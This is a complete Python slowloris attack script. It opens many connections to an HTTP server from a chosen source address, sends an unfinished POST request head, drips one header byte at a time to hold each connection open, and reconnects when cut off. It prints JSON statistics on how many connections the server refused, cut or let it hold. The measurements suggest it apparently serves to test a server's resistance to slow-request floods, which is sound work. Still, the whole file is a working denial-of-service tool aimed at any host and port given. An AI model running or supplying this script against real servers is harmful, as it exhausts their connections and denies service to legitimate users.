"""A slowloris attack on an HTTP server, from one source address: COUNT connections, each sending the start of a
request head and then one more header byte every DRIP seconds, never finishing it. A connection the server closes
is opened again at once (after a short pause), so the attack holds whatever the server lets it hold for DURATION
seconds.

Usage: slowloris.py HOST PORT SOURCE COUNT DRIP DURATION

Prints one JSON object:
  {"opened": N, "refused": N, "cut": [seconds...], "open_at_end": [seconds...], "most_held": N}
where a connection closed by the server within REFUSED_WITHIN seconds of its connect is "refused", a later close
is "cut" (its lifetime listed), "open_at_end" lists the lifetimes of those still open when the attack stops, and
"most_held" is the most connections older than REFUSED_WITHIN that were open at one moment.
"""
import json
import selectors
import socket
import sys
import time

REFUSED_WITHIN = 0.5
RECONNECT_PAUSE = 0.2
HEAD = b"POST /uploads HTTP/1.1\r\nHost: 127.0.0.1\r\n"
DRIP = b"X-Slow: " + b"a" * 4096


class Connection:
    def __init__(self, host, port, source):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.bind((source, 0))
        self.sock.settimeout(2)
        self.sock.connect((host, port))
        self.sock.setblocking(False)
        self.opened = time.monotonic()
        self.next_drip = self.opened
        self.sent = 0
        self.send(HEAD)

    def send(self, data):
        try:
            self.sock.send(data)
            return True
        except (BlockingIOError, InterruptedError):
            return True
        except OSError:
            return False

    def drip(self, now):
        """Sends one more byte of a header line that never ends; False when the socket is gone."""
        self.next_drip = now + DRIP_SECONDS
        byte = DRIP[self.sent % len(DRIP) : self.sent % len(DRIP) + 1]
        self.sent += 1
        return self.send(byte)


def main():
    global DRIP_SECONDS
    host, port, source = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    count, DRIP_SECONDS, duration = int(sys.argv[4]), float(sys.argv[5]), float(sys.argv[6])
    selector = selectors.DefaultSelector()
    stats = {"opened": 0, "refused": 0, "cut": [], "open_at_end": [], "most_held": 0}
    live = {}
    pending = [time.monotonic()] * count
    end = time.monotonic() + duration

    def close(conn, now):
        selector.unregister(conn.sock)
        del live[conn.sock.fileno()]
        lifetime = now - conn.opened
        if lifetime < REFUSED_WITHIN:
            stats["refused"] += 1
        else:
            stats["cut"].append(round(lifetime, 3))
        conn.sock.close()
        pending.append(now + RECONNECT_PAUSE)

    while True:
        now = time.monotonic()
        if now >= end:
            break
        due = [at for at in pending if at <= now]
        pending[:] = [at for at in pending if at > now]
        for _ in due:
            try:
                conn = Connection(host, port, source)
            except OSError:
                pending.append(now + RECONNECT_PAUSE)
                continue
            stats["opened"] += 1
            live[conn.sock.fileno()] = conn
            selector.register(conn.sock, selectors.EVENT_READ, conn)
        for key, _ in selector.select(timeout=0.05):
            conn = key.data
            try:
                data = conn.sock.recv(65536)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                data = b""
            if not data:
                close(conn, time.monotonic())
        now = time.monotonic()
        for conn in list(live.values()):
            if conn.next_drip <= now and not conn.drip(now):
                close(conn, now)
        held = sum(1 for conn in live.values() if now - conn.opened >= REFUSED_WITHIN)
        stats["most_held"] = max(stats["most_held"], held)
    now = time.monotonic()
    for conn in live.values():
        stats["open_at_end"].append(round(now - conn.opened, 3))
        conn.sock.close()
    print(json.dumps(stats))


if __name__ == "__main__":
    main()
